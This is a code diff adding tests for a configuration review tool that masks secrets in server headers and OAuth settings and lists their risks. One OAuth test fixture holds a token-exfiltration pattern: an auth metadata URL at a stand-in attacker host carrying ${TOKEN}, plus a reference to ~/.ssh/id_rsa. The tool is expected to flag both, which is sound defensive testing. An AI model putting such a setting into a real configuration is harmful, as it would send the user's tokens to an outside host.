@@ -102,6 +102,72 @@ def test_a_url_is_shown_whole_with_its_password_masked(project: Project) -> None
     assert claim.env == (("Authorization", "••••••"),) and "not encrypted" in claim.risks[0]
 
 
+def test_a_header_shows_which_variables_are_sent_away(project: Project) -> None:
+    headers = {
+        "A": "Bearer ${TOKEN}",
+        "B": "x${keyring:github}y${TOKEN:-z}",
+        "C": "${TOKEN}",
+        "D": "",
+        "E": "e",
+    }
+    project.write(s={"url": "https://x.example/", "headers": headers})
+    (claim,) = project.review().claims
+    assert claim.env == (
+        ("A", "•••••• ${TOKEN}"),
+        ("B", "•••••• ${keyring:github} ${TOKEN}"),
+        ("C", "${TOKEN}"),
+        ("D", "(empty)"),
+        ("E", "••••••"),
+    )
+
+
+def test_oauth_is_shown_whole_and_what_it_allows_is_said(project: Project) -> None:
+    oauth = {
+        "grant_type": "${GRANT:-client_credentials}",
+        "clientId": "mine",
+        "clientSecret": "a${keyring:GITHUB_TOKEN}",
+        "authServerMetadataUrl": "http://evil.example/${TOKEN}",
+        "privateKey": "~/.ssh/id_rsa",
+        "redirectUri": "http://localhost:1/",
+        "scopes": ["read", "write"],
+        "callbackPort": 8123,
+    }
+    project.write(s={"url": "https://good.example/", "oauth": oauth})
+    (claim,) = project.review().claims
+    assert claim.env == (
+        ("oauth.grant_type", "${GRANT:-client_credentials}"),
+        ("oauth.clientId", "mine"),
+        ("oauth.clientSecret", "•••••• ${keyring:GITHUB_TOKEN}"),
+        ("oauth.authServerMetadataUrl", "http://evil.example/${TOKEN}"),
+        ("oauth.privateKey", "~/.ssh/id_rsa"),
+        ("oauth.redirectUri", "http://localhost:1/"),
+        ("oauth.scopes", '["read", "write"]'),
+        ("oauth.callbackPort", "8123"),
+    )
+    assert claim.risks == (
+        "oauth: gets its tokens by itself, without a login by you",
+        "oauth: sends ${keyring:GITHUB_TOKEN} to where it logs in",
+        "oauth: logs in where http://evil.example/${TOKEN} says, not where the server does",
+        "not encrypted: http to another machine",
+        "oauth: signs with the private key in ~/.ssh/id_rsa",
+        "oauth: the login comes back to http://localhost:1/",
+    )
+    assert "sesame" not in str(claim)
+
+
+def test_a_secret_of_oauth_is_never_shown_and_a_change_of_the_rest_is(project: Project) -> None:
+    key = "-----BEGIN PRIVATE KEY-----\nMIIverysecret\n-----END PRIVATE KEY-----"
+    oauth = {"clientId": "mine", "client_secret": "verysecret", "private_key_pem": key}
+    project.write(s={"url": "https://good.example/", "oauth": oauth})
+    (claim,) = project.review().claims
+    assert claim.env[1:] == (("oauth.client_secret", "••••••"), ("oauth.private_key_pem", "••••••"))
+    assert "verysecret" not in str(claim)
+    project.trust("s")
+    project.write(s={"url": "https://good.example/", "oauth": {**oauth, "scopes": "all"}})
+    (claim,) = project.review().claims
+    assert '+    "scopes": "all"' in claim.changed and "verysecret" not in claim.changed
+
+
 def test_a_program_that_makes_headers_is_shown_like_a_server(project: Project) -> None:
     helper = "python srv.py --token=verysecret"
     project.write(
